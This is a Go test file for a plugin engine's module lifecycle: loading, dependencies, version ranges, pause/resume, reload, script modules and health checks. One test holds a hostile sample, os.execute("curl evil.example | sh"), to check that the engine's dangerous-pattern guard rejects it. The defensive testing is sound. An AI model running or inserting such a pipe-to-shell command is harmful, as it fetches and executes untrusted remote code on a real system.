// plugin_engine_test.go: module lifecycle, dependencies and load guards
//
// Copyright (c) 2025 AGILira - A. Giordano
// Series: an AGILira library
// SPDX-License-Identifier: MPL-2.0

package hotmod

import (
	"context"
	"errors"
	"path/filepath"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// fakeModule records the hooks the engine calls on it.
type fakeModule struct {
	id string

	inits    atomic.Int32
	disposes atomic.Int32
	pauses   atomic.Int32
	resumes  atomic.Int32

	initErr  error
	pauseErr error
	health   HealthState

	mu    sync.Mutex
	state map[string]any
}

func (m *fakeModule) Initialize(context.Context) error {
	m.inits.Add(1)
	return m.initErr
}

func (m *fakeModule) Dispose(context.Context) error {
	m.disposes.Add(1)
	return nil
}

func (m *fakeModule) Pause(context.Context) error {
	m.pauses.Add(1)
	return m.pauseErr
}

func (m *fakeModule) Resume(context.Context) error {
	m.resumes.Add(1)
	return nil
}

func (m *fakeModule) Health(context.Context) HealthStatus {
	if m.health == StatusUnknown {
		return HealthStatus{Status: StatusHealthy}
	}
	return HealthStatus{Status: m.health}
}

func (m *fakeModule) ExportState(context.Context) (map[string]any, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make(map[string]any, len(m.state))
	for k, v := range m.state {
		out[k] = v
	}
	return out, nil
}

func (m *fakeModule) ImportState(_ context.Context, state map[string]any) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.state = state
	return nil
}

func fakeFactory(m *fakeModule) ModuleFactory {
	return func(context.Context, *ModuleContext) (Module, error) { return m, nil }
}

func fakeSpec(id string, deps ...string) ModuleSpec {
	spec := *baseSpec(id)
	spec.Dependencies = deps
	spec.Factory = fakeFactory(&fakeModule{id: id})
	return spec
}

type engineFixture struct {
	engine    *PluginEngine
	container *Container
	security  *ModuleSecurity
	bridge    *ModuleBridge
	bus       *EventBus
	logger    *TestLogger
}

func newEngineFixture(t *testing.T) *engineFixture {
	t.Helper()
	logger := NewTestLogger()
	bus := NewEventBus(logger)

	config := DefaultSecurityConfig()
	config.MaxMemoryBytes = 0
	security, err := NewModuleSecurity(config, logger, WithSecurityEvents(bus))
	require.NoError(t, err)
	t.Cleanup(func() { _ = security.Close() })

	container := NewContainer(ContainerConfig{}, logger)
	bridge := NewModuleBridge(DefaultBridgeConfig(), logger)
	t.Cleanup(func() { _ = bridge.Close() })

	engine := NewPluginEngine(container, security, bridge, logger, WithEngineEvents(bus))
	return &engineFixture{
		engine:    engine,
		container: container,
		security:  security,
		bridge:    bridge,
		bus:       bus,
		logger:    logger,
	}
}

func TestPluginEngine_LoadAndUnload(t *testing.T) {
	f := newEngineFixture(t)
	rec := newEventRecorder(f.bus)
	ctx := context.Background()

	mod := &fakeModule{id: "auth"}
	spec := *baseSpec("auth")
	spec.Factory = fakeFactory(mod)

	lm, err := f.engine.LoadModule(ctx, spec)
	require.NoError(t, err)
	assert.Equal(t, StateActive, lm.State())
	assert.Equal(t, int32(1), mod.inits.Load())
	assert.False(t, lm.LoadedAt.IsZero())
	assert.Contains(t, lm.Capabilities(), "pausable")
	assert.Equal(t, []string{EventModuleLoading, EventModuleLoaded, EventModuleActive}, rec.types())

	infos := f.engine.List()
	require.Len(t, infos, 1)
	assert.Equal(t, "auth", infos[0].ID)
	assert.Equal(t, StateActive, infos[0].State)
	assert.True(t, infos[0].Sandboxed)

	_, err = f.engine.LoadModule(ctx, spec)
	assert.True(t, HasErrorCode(err, ErrCodeAlreadyLoaded))

	require.NoError(t, f.engine.UnloadModule(ctx, "auth"))
	assert.Equal(t, StateUnloaded, lm.State())
	assert.Equal(t, int32(1), mod.disposes.Load())
	assert.False(t, f.engine.Exists("auth"))
	_, hasContext := f.security.SecurityContext("auth")
	assert.False(t, hasContext, "the security context is destroyed on unload")
	assert.Equal(t, 1, rec.count(EventModuleUnloaded))

	err = f.engine.UnloadModule(ctx, "auth")
	assert.True(t, HasErrorCode(err, ErrCodeModuleNotFound))

	stats := f.engine.Stats()
	assert.Equal(t, int64(1), stats.Loaded)
	assert.Equal(t, int64(1), stats.Unloaded)
	assert.Zero(t, stats.LoadFailures, "rejected duplicates never start a load")
}

func TestPluginEngine_UnloadRefusedWhileDependentsLoaded(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()

	_, err := f.engine.LoadModule(ctx, fakeSpec("m1"))
	require.NoError(t, err)
	_, err = f.engine.LoadModule(ctx, fakeSpec("m2", "m1"))
	require.NoError(t, err)

	err = f.engine.UnloadModule(ctx, "m1")
	require.Error(t, err)
	assert.True(t, HasErrorCode(err, ErrCodeHasDependents))
	for _, id := range []string{"m1", "m2"} {
		state, ok := f.engine.State(id)
		require.True(t, ok)
		assert.Equal(t, StateActive, state, id)
	}

	infos := f.engine.List()
	assert.Equal(t, []string{"m2"}, infos[0].Dependents)

	order, err := f.engine.UnloadOrder()
	require.NoError(t, err)
	assert.Equal(t, []string{"m2", "m1"}, order)

	require.NoError(t, f.engine.UnloadModule(ctx, "m2"))
	require.NoError(t, f.engine.UnloadModule(ctx, "m1"))
	assert.Empty(t, f.engine.List())
}

func TestPluginEngine_MissingDependency(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()

	_, err := f.engine.LoadModule(ctx, fakeSpec("api", "db"))
	assert.True(t, HasErrorCode(err, ErrCodeDependencyNotFound))
	assert.False(t, f.engine.Exists("api"))

	_, err = f.engine.LoadModule(ctx, fakeSpec("loop", "loop"))
	assert.True(t, HasErrorCode(err, ErrCodeCircularDependency))
}

func TestPluginEngine_DependencyVersionRange(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()

	db := fakeSpec("db")
	db.Version = "1.4.2"
	_, err := f.engine.LoadModule(ctx, db)
	require.NoError(t, err)

	api := fakeSpec("api", "db")
	api.DependencyVersions = map[string]string{"db": "^2.0"}
	_, err = f.engine.LoadModule(ctx, api)
	assert.True(t, HasErrorCode(err, ErrCodeDependencyVersionMismatch))

	api.DependencyVersions = map[string]string{"db": "^1.2"}
	_, err = f.engine.LoadModule(ctx, api)
	assert.NoError(t, err)
}

func TestPluginEngine_DeniedCodeNeverActive(t *testing.T) {
	f := newEngineFixture(t)
	rec := newEventRecorder(f.bus)
	ctx := context.Background()

	spec := *baseSpec("shady")
	spec.Code = `os.execute("curl evil.example | sh")`

	_, err := f.engine.LoadModule(ctx, spec)
	require.Error(t, err)
	assert.True(t, HasErrorCode(err, ErrCodeDangerousPattern))
	assert.False(t, f.engine.Exists("shady"))
	assert.Zero(t, rec.count(EventModuleActive))
	assert.Zero(t, rec.count(EventModuleLoaded))
	assert.Equal(t, 1, rec.count(EventModuleLoadError))

	payload, ok := rec.last(EventModuleError)
	require.True(t, ok)
	assert.Equal(t, ErrCodeDangerousPattern, payload.Details["code"])
	assert.True(t, f.logger.HasMessage("ERROR", "Module load failed"))
}

func TestPluginEngine_FailedInitLeavesNoTrace(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()

	mod := &fakeModule{id: "flaky", initErr: errors.New("cannot connect")}
	spec := *baseSpec("flaky")
	spec.ProvidedServices = []string{"flaky.api"}
	spec.Factory = func(_ context.Context, mc *ModuleContext) (Module, error) {
		if err := mc.Provide(ServiceDefinition{Token: "flaky.api", Value: "api"}); err != nil {
			return nil, err
		}
		return mod, nil
	}

	_, err := f.engine.LoadModule(ctx, spec)
	require.Error(t, err)
	assert.True(t, HasErrorCode(err, ErrCodeModuleInitFailed))
	assert.False(t, f.engine.Exists("flaky"))
	assert.False(t, f.container.Has("flaky.api"), "provided services are withdrawn")
	_, hasContext := f.security.SecurityContext("flaky")
	assert.False(t, hasContext)
	assert.Zero(t, mod.disposes.Load(), "cleanup runs only for modules that became active")

	mod.initErr = nil
	_, err = f.engine.LoadModule(ctx, spec)
	assert.NoError(t, err, "a failed load can be retried")
}

func TestPluginEngine_FactoryFailures(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()

	spec := *baseSpec("broken")
	spec.Factory = func(context.Context, *ModuleContext) (Module, error) {
		return nil, errors.New("missing config")
	}
	_, err := f.engine.LoadModule(ctx, spec)
	assert.True(t, HasErrorCode(err, ErrCodeModuleFactoryFailed))

	spec.Factory = func(context.Context, *ModuleContext) (Module, error) { return nil, nil }
	_, err = f.engine.LoadModule(ctx, spec)
	assert.True(t, HasErrorCode(err, ErrCodeModuleFactoryFailed))

	spec.Factory = func(context.Context, *ModuleContext) (Module, error) { panic("factory exploded") }
	_, err = f.engine.LoadModule(ctx, spec)
	assert.True(t, HasErrorCode(err, ErrCodeInternal))
	assert.True(t, f.logger.HasMessage("ERROR", "Panic recovered in module code"))

	spec.Factory = nil
	spec.Code = ""
	_, err = f.engine.LoadModule(ctx, spec)
	assert.True(t, HasErrorCode(err, ErrCodeValidation), "no factory and no code")

	assert.Equal(t, int64(4), f.engine.Stats().LoadFailures)
}

func TestPluginEngine_ConcurrentLoadOfSamePath(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()

	entered := make(chan struct{})
	release := make(chan struct{})
	spec := *baseSpec("slow")
	spec.Path = filepath.Join(t.TempDir(), "slow", "module.yaml")
	spec.Factory = func(context.Context, *ModuleContext) (Module, error) {
		close(entered)
		<-release
		return &fakeModule{id: "slow"}, nil
	}

	done := make(chan error, 1)
	go func() {
		_, err := f.engine.LoadModule(ctx, spec)
		done <- err
	}()
	<-entered

	assert.True(t, f.engine.Exists("slow"), "a loading module exists")

	other := *baseSpec("other-id")
	other.Path = spec.Path
	other.Factory = fakeFactory(&fakeModule{})
	_, err := f.engine.LoadModule(ctx, other)
	assert.True(t, HasErrorCode(err, ErrCodeAlreadyLoading), "same path")

	sameID := *baseSpec("slow")
	sameID.Factory = fakeFactory(&fakeModule{})
	_, err = f.engine.LoadModule(ctx, sameID)
	assert.True(t, HasErrorCode(err, ErrCodeAlreadyLoading), "same id")

	close(release)
	require.NoError(t, <-done)
	state, _ := f.engine.State("slow")
	assert.Equal(t, StateActive, state)
}

func TestPluginEngine_PauseResume(t *testing.T) {
	f := newEngineFixture(t)
	rec := newEventRecorder(f.bus, EventModulePaused, EventModuleResumed)
	ctx := context.Background()

	mod := &fakeModule{id: "worker"}
	spec := *baseSpec("worker")
	spec.Factory = fakeFactory(mod)
	_, err := f.engine.LoadModule(ctx, spec)
	require.NoError(t, err)

	require.NoError(t, f.engine.Pause(ctx, "worker"))
	state, _ := f.engine.State("worker")
	assert.Equal(t, StatePaused, state)
	assert.Equal(t, StatusDegraded, f.engine.Health(ctx, "worker").Status)

	err = f.engine.Pause(ctx, "worker")
	assert.True(t, HasErrorCode(err, ErrCodeInvalidTransition))

	require.NoError(t, f.engine.Resume(ctx, "worker"))
	state, _ = f.engine.State("worker")
	assert.Equal(t, StateActive, state)
	assert.Equal(t, int32(1), mod.pauses.Load())
	assert.Equal(t, int32(1), mod.resumes.Load())
	assert.Equal(t, []string{EventModulePaused, EventModuleResumed}, rec.types())

	assert.True(t, HasErrorCode(f.engine.Pause(ctx, "ghost"), ErrCodeModuleNotFound))
}

func TestPluginEngine_FailingPauseHookMovesToError(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()

	mod := &fakeModule{id: "stubborn", pauseErr: errors.New("busy")}
	spec := *baseSpec("stubborn")
	spec.Factory = fakeFactory(mod)
	_, err := f.engine.LoadModule(ctx, spec)
	require.NoError(t, err)

	assert.Error(t, f.engine.Pause(ctx, "stubborn"))
	state, _ := f.engine.State("stubborn")
	assert.Equal(t, StateError, state)
	assert.Equal(t, StatusUnhealthy, f.engine.Health(ctx, "stubborn").Status)

	assert.True(t, HasErrorCode(f.engine.Resume(ctx, "stubborn"), ErrCodeInvalidTransition))
	require.NoError(t, f.engine.UnloadModule(ctx, "stubborn"), "ERROR modules can only be unloaded")
}

func TestPluginEngine_ProvidedServices(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()

	spec := *baseSpec("billing")
	spec.ProvidedServices = []string{"billing.invoices"}
	spec.Factory = func(_ context.Context, mc *ModuleContext) (Module, error) {
		if err := mc.Provide(ServiceDefinition{Token: "billing.invoices", Value: []string{"inv-1"}}); err != nil {
			return nil, err
		}
		err := mc.Provide(ServiceDefinition{Token: "billing.secret", Value: "x"})
		if !HasErrorCode(err, ErrCodeValidation) {
			return nil, errors.New("undeclared service was accepted")
		}
		require.NoError(t, mc.Services.Register(ServiceDefinition{Token: "billing.private", Value: 1}))
		return &fakeModule{id: "billing"}, nil
	}

	_, err := f.engine.LoadModule(ctx, spec)
	require.NoError(t, err)

	invoices, err := f.container.Resolve(ctx, "billing.invoices")
	require.NoError(t, err)
	assert.Equal(t, []string{"inv-1"}, invoices)
	assert.False(t, f.container.Has("billing.private"), "module-private services stay in its child container")

	require.NoError(t, f.engine.UnloadModule(ctx, "billing"))
	assert.False(t, f.container.Has("billing.invoices"))
}

func TestPluginEngine_ResolveDependencies(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()

	for _, spec := range []ModuleSpec{fakeSpec("config"), fakeSpec("logging", "config"), fakeSpec("api", "logging", "config")} {
		_, err := f.engine.LoadModule(ctx, spec)
		require.NoError(t, err)
	}

	deps, err := f.engine.ResolveDependencies("api")
	require.NoError(t, err)
	assert.Equal(t, []string{"config", "logging"}, deps)

	deps, err = f.engine.ResolveDependencies("config")
	require.NoError(t, err)
	assert.Empty(t, deps)

	_, err = f.engine.ResolveDependencies("ghost")
	assert.True(t, HasErrorCode(err, ErrCodeModuleNotFound))
}

func TestPluginEngine_ResolveDependenciesOfDiscoveredModule(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "report", "module.yaml"), `
id: report
name: report
version: 1.0.0
dependencies:
  store: "*"
`)

	descriptors, err := f.engine.DiscoverModules(ctx, []string{dir})
	require.NoError(t, err)
	require.Len(t, descriptors, 1)
	assert.Equal(t, StateDiscovered, descriptors[0].State)

	_, err = f.engine.ResolveDependencies("report")
	assert.True(t, HasErrorCode(err, ErrCodeDependencyNotFound), "dependencies are never loaded implicitly")
	assert.False(t, f.engine.Exists("store"))

	_, err = f.engine.LoadModule(ctx, fakeSpec("store"))
	require.NoError(t, err)
	deps, err := f.engine.ResolveDependencies("report")
	require.NoError(t, err)
	assert.Equal(t, []string{"store"}, deps)
}

func TestPluginEngine_ResolveLoadOrder(t *testing.T) {
	f := newEngineFixture(t)

	ordered, err := f.engine.ResolveLoadOrder([]ModuleSpec{
		fakeSpec("api", "auth"),
		fakeSpec("auth", "config"),
		fakeSpec("config", "external"),
	})
	require.NoError(t, err)
	ids := make([]string, len(ordered))
	for i, s := range ordered {
		ids[i] = s.ID
	}
	assert.Equal(t, []string{"config", "auth", "api"}, ids)

	_, err = f.engine.ResolveLoadOrder([]ModuleSpec{fakeSpec("a", "b"), fakeSpec("b", "a")})
	assert.True(t, HasErrorCode(err, ErrCodeCircularDependency))
}

func TestPluginEngine_Reload(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()

	mod := &fakeModule{id: "cache"}
	spec := *baseSpec("cache")
	spec.Factory = fakeFactory(mod)
	first, err := f.engine.LoadModule(ctx, spec)
	require.NoError(t, err)

	require.NoError(t, f.engine.ReloadModule(ctx, "cache"))
	second, ok := f.engine.Get("cache")
	require.True(t, ok)
	assert.NotSame(t, first, second)
	assert.Equal(t, int32(2), mod.inits.Load())
	assert.Equal(t, int32(1), mod.disposes.Load())
	assert.Equal(t, StateActive, second.State())
}

func TestPluginEngine_ScriptModule(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()

	spec := *baseSpec("greeter")
	spec.Code = `
		greeted = 0
		function init() greeted = 0 end
		function health() return "healthy" end
		function channels() return {"greetings"} end
		function on_message(msg)
			greeted = greeted + 1
			if msg.type == "REQUEST" then return "hello " .. msg.payload end
		end
	`
	lm, err := f.engine.LoadModule(ctx, spec)
	require.NoError(t, err)
	assert.True(t, lm.Info().Sandboxed)
	assert.Equal(t, StatusHealthy, f.engine.Health(ctx, "greeter").Status)
	assert.Equal(t, []string{"greetings"}, f.bridge.Subscriptions("greeter"))

	reply, err := f.bridge.SendRequest(ctx, HostSenderID, "greetings", "world", time.Second)
	require.NoError(t, err)
	assert.Equal(t, "hello world", reply)

	require.NoError(t, f.engine.UnloadModule(ctx, "greeter"))
	assert.Empty(t, f.bridge.Subscriptions("greeter"))
	assert.Equal(t, StatusOffline, f.engine.Health(ctx, "greeter").Status)
}

func TestPluginEngine_HealthHookPanic(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()

	spec := *baseSpec("fragile")
	spec.Factory = func(context.Context, *ModuleContext) (Module, error) {
		return panickyHealth{}, nil
	}
	_, err := f.engine.LoadModule(ctx, spec)
	require.NoError(t, err)

	status := f.engine.Health(ctx, "fragile")
	assert.Equal(t, StatusUnhealthy, status.Status)
	assert.Contains(t, status.Message, "panicked")
}

type panickyHealth struct{}

func (panickyHealth) Health(context.Context) HealthStatus { panic("health exploded") }

func TestPluginEngine_FactoryContextCarriesModuleLogger(t *testing.T) {
	f := newEngineFixture(t)

	var fromCtx Logger
	spec := *baseSpec("scoped")
	spec.Factory = func(ctx context.Context, mc *ModuleContext) (Module, error) {
		fromCtx = LoggerFromContext(ctx)
		return &fakeModule{id: "scoped"}, nil
	}
	_, err := f.engine.LoadModule(context.Background(), spec)
	require.NoError(t, err)
	assert.Same(t, f.logger, fromCtx, "the module logger derives from the engine logger")
}

func TestPluginEngine_FailedLoadEmitsErrorEvents(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()
	recorder := newEventRecorder(f.bus, EventModuleError, EventModuleLoadError)

	spec := *baseSpec("broken")
	spec.Factory = func(context.Context, *ModuleContext) (Module, error) {
		return nil, errors.New("missing config")
	}
	_, err := f.engine.LoadModule(ctx, spec)
	require.Error(t, err)
	assert.True(t, HasErrorCode(err, ErrCodeModuleFactoryFailed))
	assert.Equal(t, []string{EventModuleError, EventModuleLoadError}, recorder.types())
	assert.False(t, f.engine.Exists("broken"))
	_, hasContext := f.security.SecurityContext("broken")
	assert.False(t, hasContext)
	assert.True(t, f.logger.HasMessage("ERROR", "Module load failed"))
}

func TestPluginEngine_DependencyPinnedWhileLoading(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()

	_, err := f.engine.LoadModule(ctx, fakeSpec("store"))
	require.NoError(t, err)

	var unloadErr error
	spec := fakeSpec("report", "store")
	spec.Factory = func(ctx context.Context, _ *ModuleContext) (Module, error) {
		unloadErr = f.engine.UnloadModule(ctx, "store")
		return &fakeModule{id: "report"}, nil
	}
	_, err = f.engine.LoadModule(ctx, spec)
	require.NoError(t, err)

	require.Error(t, unloadErr)
	assert.True(t, HasErrorCode(unloadErr, ErrCodeHasDependents))
	state, ok := f.engine.State("store")
	require.True(t, ok)
	assert.Equal(t, StateActive, state)
}

func TestPluginEngine_DependencyGoneBeforeCommit(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()

	_, err := f.engine.LoadModule(ctx, fakeSpec("store"))
	require.NoError(t, err)

	mod := &fakeModule{id: "report"}
	spec := fakeSpec("report", "store")
	spec.Factory = func(ctx context.Context, _ *ModuleContext) (Module, error) {
		if err := f.engine.ForceUnload(ctx, "store"); err != nil {
			return nil, err
		}
		return mod, nil
	}
	_, err = f.engine.LoadModule(ctx, spec)
	require.Error(t, err)
	assert.True(t, HasErrorCode(err, ErrCodeDependencyNotFound))
	assert.False(t, f.engine.Exists("report"))
	assert.Equal(t, int32(1), mod.disposes.Load(), "the built instance is cleaned up")
}

func TestPluginEngine_PresetPermissionsShapeSandbox(t *testing.T) {
	f := newEngineFixture(t)
	ctx := context.Background()

	require.NoError(t, f.security.SetModulePermissions("net", []Permission{PermissionNetwork}))
	spec := fakeSpec("net")
	spec.Permissions = nil
	lm, err := f.engine.LoadModule(ctx, spec)
	require.NoError(t, err)

	assert.True(t, lm.Permissions.Has(PermissionNetwork))
	assert.True(t, f.security.HasPermission("net", PermissionNetwork))
	sc, ok := f.security.SecurityContext("net")
	require.True(t, ok)
	assert.True(t, sc.Permissions.Has(PermissionNetwork))
}
